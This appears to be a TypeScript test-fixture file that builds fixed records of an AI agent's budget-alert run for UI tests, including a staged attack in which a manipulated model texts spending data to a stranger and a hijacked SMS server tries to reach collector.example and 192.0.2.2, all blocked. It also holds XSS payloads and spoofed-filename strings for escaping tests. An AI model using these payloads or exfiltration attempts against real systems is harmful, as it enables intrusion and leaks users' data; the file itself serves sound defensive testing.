import { storyOf as storyOfParts } from '../../agent/pages/run/reading/story-of.ts';
import type { LaneId, Moment, Story } from '../../agent/pages/run/story.ts';
import type { AuditEvent } from '../../agent/sandbox/audit/line.ts';
import { BEGAN, type Logged, logOf, type Recorded, recordOf, request } from './run-parts.ts';

/** Stories of runs with fixed times and hashes, for tests of pages and for pictures. */

const SMS = 'mcp-server-sms';
const OWNER = '+12025550143';
const PROMPT = 'Check my budgets and alert me';
const ANSWER =
  '2 of 4 budgets run hot. Shopping: CHF 95 of 80 (119%). Food & Dining: CHF 135 of 150 (90%). Alerts: Shopping queued, Food & Dining queued.';
const STRANGER = 'this recipient is not allowed; leave `to` out to text the owner';

const TEXTS = [
  { category: 'Shopping', spent: 95, budget: 80, body: '[!!] SpendWise: Shopping\nCHF 95/80 (119%)', at: 93 },
  {
    category: 'Food & Dining',
    spent: 135,
    budget: 150,
    body: '[!] SpendWise: Food & Dining\nCHF 135/150 (90%)',
    at: 476,
  },
].map((text, index) => ({ ...text, sid: `SM38574cf345e13d9706dc02e85f5fe87${index}` }));

const STATUS = {
  as_of: '2026-11-29',
  total: 4,
  budgets: [
    ['Shopping', 95, 80, 119, 'over'],
    ['Food & Dining', 135, 150, 90, 'warn'],
    ['Transportation', 45, 100, 45, 'ok'],
    ['Entertainment', 15, 50, 30, 'ok'],
  ].map(([category, spent, limit, percent, state]) => ({
    ...{ category, currency: 'CHF', period: 'week', spent, limit, percent, state, forecast: spent },
  })),
};

const used = (at: number, calls: number, inputTokens: number, outputTokens: number): Recorded => [
  at,
  { type: 'usage', usage: { calls, inputTokens, outputTokens } },
];

/** A call and its result. */
function called(
  [from, to]: readonly [number, number],
  [server, tool]: readonly [string, string],
  args: Record<string, unknown>,
  structured: Record<string, unknown>,
): Recorded[] {
  const call = { callId: `call_${from}`, name: `${server}__${tool}`, arguments: JSON.stringify(args) };
  const result = { isError: false, text: JSON.stringify(structured), structured };
  const outcome = { kind: 'result' as const, call: { server, tool, args }, result, recipient: '+…0143' };
  return [
    [from, { type: 'call', call }],
    [to, { type: 'outcome', call, outcome }],
  ];
}

/** A text to a stranger, and connections that were not granted: played by the demo, after the answer. */
function played(): Recorded[] {
  const args = { to: '+…0199', message: 'Shopping CHF 95, Food & Dining CHF 135' };
  const call = { callId: 'played', name: 'sms__send_sms', arguments: JSON.stringify(args) };
  const note = (text: string, plays?: true) => ({ type: 'note' as const, text, ...(plays && { plays }) });
  const outcome = {
    kind: 'denied' as const,
    call: { server: 'sms', tool: 'send_sms', args },
    reason: STRANGER,
  };
  return [
    [586, note('Here the demo plays a model that was talked into it: it calls send_sms itself.', true)],
    [587, { type: 'call', call }],
    [590, { type: 'outcome', call, outcome }],
    [591, note('Here the demo plays an SMS server that was taken over, from inside its sandbox.', true)],
    [
      770,
      note(
        "fetch('https://collector.example/') was BLOCKED: ENOTFOUND; on record: collector.example:53, a DNS query for a name that was not granted",
      ),
    ],
    [
      932,
      note(
        "fetch('https://192.0.2.2/') was BLOCKED: ERR_SSL_TLSV1_ALERT_ACCESS_DENIED; on record: 192.0.2.2:443, this address was not granted",
      ),
    ],
  ];
}

const consent = (at: number, server: string, what: string): Logged => [
  at,
  { event: 'consent', server, permission: `Allow access to ${what}`, verdict: 'granted' },
];
const started = (at: number, server: string, manifest: string, source: string): Logged => [
  at,
  { event: 'start', server, runtime: 'docker', isolated: true, manifest: manifest.repeat(4), source },
];
const policy = (at: number, server: string, tool: string, reason?: string): Logged => [
  at,
  {
    event: 'policy',
    server,
    tool,
    verdict: reason === undefined ? 'allowed' : 'denied',
    reason: reason ?? '',
  },
];
const egress = (
  at: number,
  host: string,
  port: number,
  verdict: 'allowed' | 'denied',
  reason: string,
): Logged => [at, { event: 'egress', server: SMS, host, port, verdict, reason } satisfies AuditEvent];
const POST = 'POST /2010-04-01/Accounts/{env:TWILIO_ACCOUNT_SID}/Messages.json';
const DNS = 'a DNS query for a name that was not granted';

const LOG: readonly Logged[] = [
  consent(
    -1052,
    'spending',
    'file system path (read: true, write: false): "/home/ada/spendwise/data/spendwise.db"',
  ),
  consent(-1051, SMS, 'domain: api.twilio.com:443'),
  consent(-1050, SMS, 'env var: TWILIO_ACCOUNT_SID'),
  consent(-1049, SMS, 'env var: TWILIO_AUTH_TOKEN'),
  consent(-1048, SMS, 'env var: TWILIO_PHONE_NUMBER'),
  consent(-1047, SMS, 'env var: NOTIFICATION_PHONE'),
  started(-341, SMS, '6f5c2714decbd3e6', '/home/ada/spendwise/mcp-server-sms/sandbox.json'),
  started(-308, 'spending', 'cdc2e52539280a87', 'the manifest in code that is called spending'),
  policy(64, 'spending', 'get_budget_status'),
  [64, { event: 'tool_call', server: 'spending', tool: 'get_budget_status' }],
  ...TEXTS.flatMap(({ at }): Logged[] => [
    policy(at + 3, 'sms', 'send_budget_alert'),
    [at + 40, { event: 'tool_call', server: SMS, tool: 'send_budget_alert' }],
    egress(at + 60, 'api.twilio.com', 443, 'allowed', POST),
  ]),
  policy(588, 'sms', 'send_sms', STRANGER),
  egress(767, 'collector.example', 53, 'denied', DNS),
  egress(768, 'collector.example', 53, 'denied', DNS),
  egress(929, '192.0.2.2', 443, 'denied', 'this address was not granted'),
  [1109, { event: 'stop', server: 'spending', how: 'exit code 0' }],
  [1160, { event: 'stop', server: SMS, how: 'exit code 0' }],
];

const RECORD: readonly Recorded[] = [
  request(PROMPT, 8),
  used(57, 1, 1_116, 48),
  ...called([60, 79], ['spending', 'get_budget_status'], { as_of: null }, STATUS),
  ...TEXTS.flatMap(({ at, category, spent, budget, body, sid }, index): Recorded[] => [
    used(at, index + 2, 2_408 + 1_446 * index, 118 + 72 * index),
    ...called(
      [at, at + 375 - 286 * index],
      ['sms', 'send_budget_alert'],
      { category, spent, budget, currency: 'CHF' },
      { to: '+12*******43', segments: 1, encoding: 'GSM-7', body, status: 'queued', sid },
    ),
  ]),
  used(575, 4, 5_458, 267),
  [576, { type: 'answer', text: ANSWER }],
  ...played(),
  [933, { type: 'end', outcome: 'answered' }],
];

/** What `npm run demo` did under Docker: two alerts, then a text to a stranger and two hosts, which were stopped. */
export const demoStory = (): Story =>
  storyOfParts({
    run: recordOf(RECORD),
    log: logOf(LOG, { from: 8 }),
    rows: TEXTS.map(({ at, body, sid }, id) => ({
      ...{ id, state: 'sent', tool: 'send_budget_alert', alert: undefined, recipient: OWNER, body, sid },
      reason: undefined,
      reservedAt: new Date(BEGAN + at + 14),
      sendingAt: new Date(BEGAN + at + 36),
      settledAt: new Date(BEGAN + at + 72),
    })),
    gaps: [],
  });

/** The demo's run, with so many moments: connections of the SMS server, one in seven of them stopped. */
export function storyOf(count: number): Story {
  const story = demoStory();
  const more = Math.max(0, count - story.moments.length);
  const drafts: Moment[] = Array.from({ length: more }, (_, at) => ({
    n: 0,
    lane: 'broker',
    from: BEGAN + 940 + at * 7,
    verdict: at % 7 === 0 ? 'stopped' : 'passed',
    title: `host-${at % 40}.example:443`,
    because: at % 7 === 0 ? 'this domain was not granted' : 'granted',
    facts: [['server', SMS]],
    bodies: [],
    audit: { line: 100 + at, hash: (at + 1).toString(16).padStart(64, '0'), text: `{"line":${100 + at}}` },
  }));
  return {
    ...story,
    ended: BEGAN + 940 + more * 7,
    moments: [...story.moments, ...drafts].slice(0, count).map((moment, at) => ({ ...moment, n: at + 1 })),
  };
}

const HOSTILE =
  '</script><script>document.title="owned"</script><img src=x onerror=alert(1)> \u202Egnp.exe\u2066 \u001b[31m 🏴‍☠️';
const LONG = 'W'.repeat(10_000);

/** The same run, in which everything that others may choose is an attack on the page, or endless. */
export function hostileStory(): Story {
  const story = demoStory();
  const server = `"><svg onload=alert(1)>${LONG}`;
  const lane: LaneId = `server:${server}`;
  return {
    ...story,
    prompt: HOSTILE,
    answer: `${HOSTILE}\n${LONG}`,
    outcome: 'failed',
    error: { message: HOSTILE, hint: LONG },
    model: { kind: 'openai', name: HOSTILE },
    lanes: story.lanes.map((one) =>
      one.id === `server:${SMS}` ? { id: lane, name: server, about: HOSTILE } : one,
    ),
    moments: story.moments.map((moment) => ({
      ...moment,
      lane: moment.lane === `server:${SMS}` ? lane : moment.lane,
      title: moment.n % 2 === 0 ? HOSTILE : LONG,
      because: moment.n % 2 === 0 ? `اَلْعَرَبِيَّةُ ${HOSTILE}` : LONG,
      facts: [...moment.facts, [HOSTILE, LONG], [LONG, HOSTILE]],
      bodies: [{ name: HOSTILE, text: `${HOSTILE}\n\n${LONG.slice(0, 4_000)}` }],
    })),
    texts: story.texts.map((text) => ({
      ...text,
      to: HOSTILE,
      body: `${HOSTILE}\n${LONG}`,
      state: 'unknown',
    })),
    servers: story.servers.map((one) => ({
      ...one,
      ...(one.name === SMS && { name: server, ended: LONG }),
      granted: [...one.granted, HOSTILE, LONG],
      refused: [HOSTILE],
      hosts: [
        ...one.hosts,
        { host: HOSTILE, port: 65_535, counts: { passed: 1, stopped: 99_999, failed: 3 }, because: LONG },
        { host: LONG, port: 1, counts: { passed: 0, stopped: 1, failed: 0 }, because: HOSTILE },
      ],
    })),
    audit: story.audit && { ...story.audit, log: HOSTILE, problem: HOSTILE },
    gaps: [HOSTILE, LONG],
  };
}
